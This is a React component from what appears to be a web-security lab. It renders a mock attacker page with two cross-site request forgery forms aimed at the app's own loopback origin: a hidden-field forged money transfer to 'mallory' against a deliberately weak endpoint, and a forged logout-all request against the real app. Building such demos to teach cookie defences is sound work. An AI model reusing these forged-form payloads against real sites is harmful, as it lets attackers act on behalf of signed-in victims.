'use client';

import { loopbackTwinOrigin } from '@/lib/http/security-headers';
import { usePageOrigin } from '../../_lifecycle/use-page-origin';

/** Two forms, as any page on the web could hold them, posting to the victim's origin in a new tab. */
export function AttackerForms() {
  const here = usePageOrigin();
  const target = here === null ? null : loopbackTwinOrigin(here);
  return (
    <>
      <header className="rounded-lg bg-red-900 p-4 text-white">
        <p className="text-sm font-semibold tracking-wide uppercase">Attacker&apos;s site</p>
        <h1 className="text-2xl font-bold">Win a free prize!</h1>
        <p>
          This page is served from <code className="font-mono">{here ?? '…'}</code>, a different site from the app at{' '}
          <code className="font-mono">{target ?? '…'}</code>. Its forms post there; the answers open in a new tab.
        </p>
      </header>
      {target === null ? (
        <p>Open this page at http://localhost:PORT or http://127.0.0.1:PORT: it needs the other one as its target.</p>
      ) : (
        <div className="grid gap-3 md:grid-cols-2">
          <form
            method="post"
            action={`${target}/api/lab/cookie-flags/transfer`}
            target="_blank"
            className="flex flex-col gap-2 rounded-lg border-2 border-red-600 bg-white p-3"
          >
            <h2 className="font-semibold">Forged transfer to the weak lab</h2>
            <p className="text-sm">
              POST {target}/api/lab/cookie-flags/transfer, to=mallory, amount=100. The browser decides which cookies go with it.
            </p>
            <input type="hidden" name="to" value="mallory" />
            <input type="hidden" name="amount" value="100" />
            <button type="submit" className="rounded-md bg-red-700 px-3 py-1.5 font-semibold text-white hover:bg-red-800">
              Send the forged transfer
            </button>
          </form>
          <form
            method="post"
            action={`${target}/api/session/logout-all`}
            target="_blank"
            className="flex flex-col gap-2 rounded-lg border-2 border-emerald-600 bg-white p-3"
          >
            <h2 className="font-semibold">Forged request to the real app</h2>
            <p className="text-sm">POST {target}/api/session/logout-all: would end every session of the signed-in user.</p>
            <button type="submit" className="rounded-md bg-slate-900 px-3 py-1.5 font-semibold text-white hover:bg-slate-700">
              Send the forged logout
            </button>
          </form>
        </div>
      )}
    </>
  );
}
